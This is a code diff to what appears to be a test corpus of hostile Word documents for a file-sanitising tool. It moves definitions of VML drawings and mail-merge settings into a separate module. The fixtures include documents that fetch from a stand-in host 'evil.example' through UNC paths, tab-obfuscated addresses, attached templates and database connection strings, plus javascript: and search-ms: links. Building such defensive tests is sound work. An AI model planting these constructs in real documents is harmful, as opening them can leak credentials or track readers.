@@ -11,6 +11,7 @@ import {
 import type { HostileFile } from "./hostile-corpus.ts";
 import { hostileOldWord } from "./hostile-old-word.ts";
 import { named } from "./named-files.ts";
+import { office, settingsWith, wordSources } from "./word-sources.ts";
 
 /** Word documents that start or fetch something when they are opened, and some that hide what they do. */
 export function hostileWord(): HostileFile[] {
@@ -95,19 +96,10 @@ function docxFiles(): HostileFile[] {
     external("hyperlink", "search-ms:query=a"),
     ["image inside that is outside", docxRelated([{ type: "image", target: evil }])],
     ["picture by its address", docxWithBody(`<w:p><v:imagedata src="${evil}"/></w:p>`)],
-    ...drawn.map(([name, drawing]): [string, Buffer] => [name, docxWithBody(drawing(evil))]),
-    [
-      "drawing by a host behind its codes",
-      docxWithBody(`<w:p><v:imagedata ${office} o:href="%5c%5cevil.example/a.png"/></w:p>`),
-    ],
-    [
-      "picture by a host behind a tab",
-      docxWithBody('<w:p><v:imagedata src="/&#9;/evil/a"/></w:p>'),
-    ],
     external("attachedTemplate", "%5c%5cevil.example/share/t.dotm", "settings"),
     external("attachedTemplate", "/&#9;/evil.example/share/t.dotm", "settings"),
     external("hyperlink", "java&#9;script:alert(1)"),
-    ...mailMerges.map(([name, inside]): [string, Buffer] => [name, settingsWith(inside)]),
+    ...wordSources(evil),
     [
       "drawing by its address",
       docx([
@@ -355,46 +347,6 @@ function docxFiles(): HostileFile[] {
     ...named("docx", hidden, "uncheckable"),
     ...named("docx", broken, "corrupted"),
   ];
-}
-
-const office = 'xmlns:o="urn:schemas-microsoft-com:office:office"';
-
-/** Old drawings that name what they show outside of the list of relationships. */
-const drawn: [string, (url: string) => string][] = [
-  ["picture by o:href", (url) => `<w:p><v:imagedata ${office} o:href="${url}"/></w:p>`],
-  ["picture by o:althref", (url) => `<w:p><v:imagedata ${office} o:althref="${url}"/></w:p>`],
-  ["filling by o:href", (url) => `<w:p><v:fill ${office} o:href="${url}"/></w:p>`],
-  ["line by o:href", (url) => `<w:p><v:stroke ${office} o:href="${url}"/></w:p>`],
-  ["picture by href", (url) => `<w:p><v:imagedata href="${url}"/></w:p>`],
-  [
-    "picture by o:href under another prefix",
-    (url) =>
-      `<w:p><v:imagedata xmlns:q="urn:schemas-microsoft-com:office:office" q:href="${url}"/></w:p>`,
-  ],
-  [
-    "picture by o:href beside its relationship",
-    (url) => `<w:p><v:imagedata ${office} r:href="rId1" o:href="${url}"/></w:p>`,
-  ],
-  ["drawing that links to a share", () => '<w:p><v:shape href="\\\\evil.example\\a"/></w:p>'],
-  ["drawing that links to a script", () => '<w:p><v:rect href="javascript:alert(1)"/></w:p>'],
-];
-
-const mailMerges: [string, string][] = [
-  ["form letter", "<w:mailMerge/>"],
-  [
-    "form letter with its database",
-    '<w:mailMerge><w:connectString w:val="Provider=SQLNCLI;Data Source=evil.example"/></w:mailMerge>',
-  ],
-  ["data source of a form letter", '<w:dataSource r:id="rId1"/>'],
-  ["query of a form letter", '<w:odso><w:udl w:val="Data Source=evil.example"/></w:odso>'],
-];
-
-/** A document whose settings hold this. */
-function settingsWith(inside: string): Buffer {
-  const content = documentOf("")
-    .replaceAll("w:document", "w:settings")
-    .replace("<w:body></w:body>", inside);
-  return docx([{ name: "word/settings.xml", content }]);
 }
 
 const fontType = "application/vnd.openxmlformats-officedocument.obfuscatedFont";
